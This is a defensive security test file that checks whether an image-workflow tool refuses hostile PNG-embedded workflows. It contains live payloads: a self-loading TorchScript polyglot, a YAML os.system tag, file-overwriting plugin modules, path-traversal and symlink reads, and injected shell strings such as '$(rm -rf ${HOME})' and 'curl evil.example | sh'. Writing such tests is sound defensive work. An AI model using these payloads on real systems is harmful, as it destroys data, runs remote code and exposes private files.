"""Attacks by a picture that contains a stranger's workflow: ``guidegraph run holiday.png``."""

from __future__ import annotations

import os
import warnings
from pathlib import Path
from typing import Any

from tests.attacks.arena import KEPT, Arena, Outcome, attack, recipe_picture
from tests.paths import ROOT

HEAD = "guidegraph: 1\n"


def run_picture(arena: Arena, text: str | dict[str, str], *arguments: str | Path, **more: Any) -> Outcome:
    return arena.run("run", recipe_picture(arena.folder / "holiday.png", text, **more), "--out", "out", *arguments)


def reads(node: str, path: Path | str) -> str:
    return f'{HEAD}nodes:\n  a: {{use: {node}, with: {{path: "{path}"}}}}\noutputs: {{a: a}}\n'


def loads_script(path: str, params: str = "", link: str = "") -> str:
    """A workflow that computes features of noise with a TorchScript file."""
    setting = "" if link else f'path: "{path}", '
    return (
        f'{HEAD}{params}nodes:\n  a: {{use: features.torchscript, {link}with: {{{setting}range: "0..1"}}}}\n'
        "  n: {use: noise.gaussian, with: {shape: [1, 3, 4, 4]}}\n  i: {use: image.from_sample, in: {sample: n}}\n"
        "  f: {use: features.pooled, in: {extractor: a, image: i}}\noutputs: {f: f}\n"
    )


@attack("a picture that is also a TorchScript archive, and loads itself", "forbidden-code")
def polyglot(arena: Arena) -> Outcome:
    picture = recipe_picture(arena.folder / "holiday.png", loads_script("holiday.png"))
    with picture.open("ab") as file:
        file.write(torchscript_archive(arena.protected_file))
    return arena.run("run", picture, "--out", "out")


def torchscript_archive(target: Path) -> bytes:
    """A TorchScript archive that writes ``target`` when it is loaded."""
    import io

    import torch

    class Payload(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.target = str(target)

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x

        @torch.jit.export
        def __getstate__(self) -> tuple[str, bool]:
            return (self.target, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]) -> None:
            self.target = state[0]
            self.training = state[1]
            torch.save(torch.zeros(1), self.target)

    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        torch.jit.save(torch.jit.script(Payload()), buffer)
    target.write_text(KEPT)  # saving runs the payload too
    return buffer.getvalue()


@attack("a picture that loads TorchScript from a file that it may only read", "forbidden-code")
def code_through_read(arena: Arena) -> Outcome:
    (arena.folder / "net.pt").write_bytes(torchscript_archive(arena.protected_file))
    return run_picture(arena, loads_script("net.pt"), "--allow-read", "net.pt")


@attack("a picture that loads TorchScript from a parameter that the user sets", "forbidden-code")
def code_through_set(arena: Arena) -> Outcome:
    (arena.folder / "net.pt").write_bytes(torchscript_archive(arena.protected_file))
    text = loads_script("", "params: {net: {type: Path, default: x.pt}}\n", "in: {path: params.net}, ")
    return run_picture(arena, text, "--set", "net=net.pt")


@attack("a picture that reads another local picture", "forbidden-read")
def reads_photo(arena: Arena) -> Outcome:
    return run_picture(arena, reads("image.load", arena.photo))


@attack("a picture that reads from a parent of its own folder", "forbidden-read")
def reads_upwards(arena: Arena) -> Outcome:
    return run_picture(arena, reads("image.load", os.path.relpath(arena.photo, arena.folder)))


@attack("a picture that reads from a parent of the package's folder", "pkg:../")
def reads_upwards_from_package(arena: Arena) -> Outcome:
    return run_picture(arena, reads("image.load", "pkg:../pyproject.toml"))


@attack("a picture that reads from the home folder", "forbidden-read")
def reads_home(arena: Arena) -> Outcome:
    return run_picture(arena, reads("tensor.load", "~/x.safetensors"))


@attack("a picture that reads through a link in an allowed folder", "forbidden-read")
def reads_through_link(arena: Arena) -> Outcome:
    (arena.folder / "mine").mkdir()
    (arena.folder / "mine" / "link.png").symlink_to(arena.photo)
    return run_picture(arena, reads("image.load", "mine/link.png"), "--allow-read", "mine")


@attack("a picture that reads an allowed folder with a link that leads out of it", "is refused")
def reads_link_in_folder(arena: Arena) -> Outcome:
    (arena.folder / "mine").mkdir()
    for name in ("a.png", "b.png"):
        (arena.folder / "mine" / name).symlink_to(arena.photo)
    text = (
        f"{HEAD}nodes:\n  d: {{use: data.folder_sample, with: {{path: mine, count: 2, size: 4}}}}\n"
        "outputs: {image: d.image}\n"
    )
    return run_picture(arena, text, "--allow-read", "mine")


@attack("a picture with a parameter whose default names a local file", "forbidden-read")
def reads_by_default(arena: Arena) -> Outcome:
    text = (
        f'{HEAD}params: {{photo: {{type: Path, default: "{arena.photo}"}}}}\n'
        "nodes:\n  a: {use: image.load, in: {path: params.photo}}\noutputs: {a: a}\n"
    )
    return run_picture(arena, text)


@attack("a picture with a recorded parameter that names a local file", "forbidden-read")
def reads_by_parameter(arena: Arena) -> Outcome:
    text = (
        f"{HEAD}params: {{photo: {{type: Path}}}}\n"
        "nodes:\n  a: {use: image.load, in: {path: params.photo}}\noutputs: {a: a}\n"
    )
    return run_picture(arena, text, params={"photo": str(arena.photo)})


@attack("a picture that reads files in a loop over paths", "forbidden-read")
def reads_in_loop(arena: Arena) -> Outcome:
    text = (
        f'{HEAD}params: {{files: ["{arena.photo}"]}}\nnodes:\n  each:\n    loop: {{over: params.files, as: file}}\n'
        "    body: {a: {use: image.load, in: {path: loop.file}}}\n    collect: {a: a}\noutputs: {a: each.a}\n"
    )
    return run_picture(arena, text)


@attack("a picture that uses a local workflow", "and does not include that file")
def uses_file(arena: Arena) -> Outcome:
    (arena.outside / "other.yaml").write_text(reads("image.load", arena.photo))
    text = f'{HEAD}nodes:\n  a: {{use: "{arena.outside}/other.yaml"}}\noutputs: {{a: a.a}}\n'
    return run_picture(arena, text)


@attack(
    "a picture that uses a file that is not a workflow, so that a message shows its text",
    "and does not include that file",
)
def uses_secret(arena: Arena) -> Outcome:
    os.link(arena.secret, arena.outside / "secret.yaml")
    text = f'{HEAD}nodes:\n  a: {{use: "{arena.outside}/secret.yaml"}}\noutputs: {{a: a.a}}\n'
    return run_picture(arena, text)


@attack("a picture that hides a read in an embedded workflow", "forbidden-read")
def reads_in_block(arena: Arena) -> Outcome:
    main = f"{HEAD}nodes:\n  a: {{use: ./block.yaml}}\noutputs: {{a: a.a}}\n"
    return run_picture(arena, {"draw.yaml": main, "block.yaml": reads("image.load", arena.photo)})


@attack("a picture that gives an embedded workflow a package path, to read files next to it", "forbidden-read")
def reads_beside_package(arena: Arena) -> Outcome:
    upwards = os.path.relpath(arena.photo, ROOT / "workflows")
    return run_picture(arena, {"pkg:draw.yaml": reads("image.load", upwards)})


SAVES = HEAD + (
    'nodes:\n  m: {{use: model.pixels}}\n  s: {{use: model.save, in: {{autoencoder: m}}, with: {{path: "{path}"}}}}\n'
    "  n: {{use: noise.gaussian, with: {{shape: [1, 3, 4, 4]}}}}\noutputs: {{n: n}}\n"
)


@attack("a picture that saves a model over one of the user's folders", "forbidden-write")
def saves_over(arena: Arena) -> Outcome:
    return run_picture(arena, SAVES.format(path=arena.outside))


@attack("a picture that saves a model over one that ships with the package", "is read-only")
def saves_over_package(arena: Arena) -> Outcome:
    return run_picture(arena, SAVES.format(path="pkg:scenes"))


@attack("a picture that saves over the package's model, although writing there is allowed", "is read-only")
def saves_over_package_allowed(arena: Arena) -> Outcome:
    package = ROOT / "workflows"
    return run_picture(arena, SAVES.format(path="pkg:scenes"), "--allow-write", package)


@attack("a picture that saves below --out through a link in that folder", "forbidden-write")
def saves_through_link(arena: Arena) -> Outcome:
    (arena.folder / "out").mkdir()
    (arena.folder / "out" / "model").symlink_to(arena.outside)
    return run_picture(arena, SAVES.format(path="out/model"))


@attack("a picture that saves to a path that the user set for reading", "forbidden-write")
def saves_over_given(arena: Arena) -> Outcome:
    text = SAVES.format(path="x").replace(HEAD, HEAD + "params: {photo: {type: Path}}\n")
    text = text.replace(', with: {path: "x"}', "").replace("autoencoder: m", "autoencoder: m, path: params.photo")
    return run_picture(arena, text, "--set", f"photo={arena.outside}")


@attack("a picture whose training writes its checkpoint to a local folder", "forbidden-write")
def trains_over(arena: Arena) -> Outcome:
    train = ROOT / "workflows" / "train" / "class_judge.yaml"
    text = train.read_text().replace("../../checkpoints/fashion_judge", str(arena.outside / "state"))
    return run_picture(arena, text)


@attack("a picture whose dtype is the name of a torch function", "dtype")
def dtype_load(arena: Arena) -> Outcome:
    return run_picture(arena, PLAIN, dtype="load")


PLAIN = f"{HEAD}nodes:\n  n: {{use: noise.gaussian, with: {{shape: [1, 3, 4, 4]}}}}\noutputs: {{n: n}}\n"


@attack("a picture whose run settings have the wrong types", "only")
def settings_of_other_types(arena: Arena) -> Outcome:
    return run_picture(arena, PLAIN, only="n", index={"a": 1})


@attack("a picture whose workflow requests the import of a plugin", "missing-plugin")
def requires_plugin(arena: Arena) -> Outcome:
    (arena.folder / "evil.py").write_text(f"open({str(arena.protected_file)!r}, 'w').write('gone')\n")
    return run_picture(arena, PLAIN.replace(HEAD, HEAD + 'requires: {evil: ">=0"}\n'))


@attack("a picture whose workflow uses a node from a module in its folder", "unknown-node")
def uses_module(arena: Arena) -> Outcome:
    (arena.folder / "evil.py").write_text(f"open({str(arena.protected_file)!r}, 'w').write('gone')\n")
    return run_picture(arena, PLAIN.replace("noise.gaussian", "evil.node"))


@attack("a picture with a YAML tag that creates a Python object", "yaml")
def yaml_tag(arena: Arena) -> Outcome:
    tag = f"!!python/object/apply:os.system ['echo gone > {arena.protected_file}']"
    return run_picture(arena, PLAIN.replace("[1, 3, 4, 4]", tag))


@attack("a picture that is checked with `validate` before it is run", "forbidden-write")
def validate_first(arena: Arena) -> Outcome:
    return arena.run("validate", recipe_picture(arena.folder / "holiday.png", SAVES.format(path=arena.outside)))


@attack("a picture passed to `plan`, which would hash the file that it names", "forbidden-read")
def plan_first(arena: Arena) -> Outcome:
    return arena.run("plan", recipe_picture(arena.folder / "holiday.png", reads("image.load", arena.photo)))


@attack("a picture passed to `sweep` that reads a local file", "forbidden-read")
def sweep_first(arena: Arena) -> Outcome:
    text = reads("image.load", arena.photo).replace(HEAD, HEAD + "params: {seed: 0}\n")
    picture = recipe_picture(arena.folder / "holiday.png", text)
    return arena.run("sweep", picture, "--seeds", "0:2", "--out", "out")


@attack("a picture passed to `export`, to copy a local file into the bundle", "forbidden-read")
def export_first(arena: Arena) -> Outcome:
    picture = recipe_picture(arena.folder / "holiday.png", reads("image.load", arena.photo))
    return arena.run("export", picture, "-o", "bundle")


@attack(
    "a picture with a path that contains a shell command, for a user who copies the suggested option", "--allow-read '"
)
def path_for_the_shell(arena: Arena) -> Outcome:
    outcome = run_picture(arena, reads("image.load", "x --allow-read / $(rm -rf ${HOME}).png"))
    assert f"--allow-read '{arena.folder}/x --allow-read / $(rm -rf ${{HOME}}).png'" in outcome.err
    return outcome


@attack("a picture that requires a plugin with a shell command as its name", "its name is not valid")
def plugin_for_the_shell(arena: Arena) -> Outcome:
    outcome = run_picture(arena, PLAIN.replace(HEAD, HEAD + 'requires: {"x; curl evil.example | sh": ">=1"}\n'))
    assert "pip install" not in outcome.err
    return outcome


@attack("a picture with an embedded file whose name contains a NUL", "is not a file name")
def name_with_nul(arena: Arena) -> Outcome:
    return run_picture(arena, {"a\0b.yaml": PLAIN})
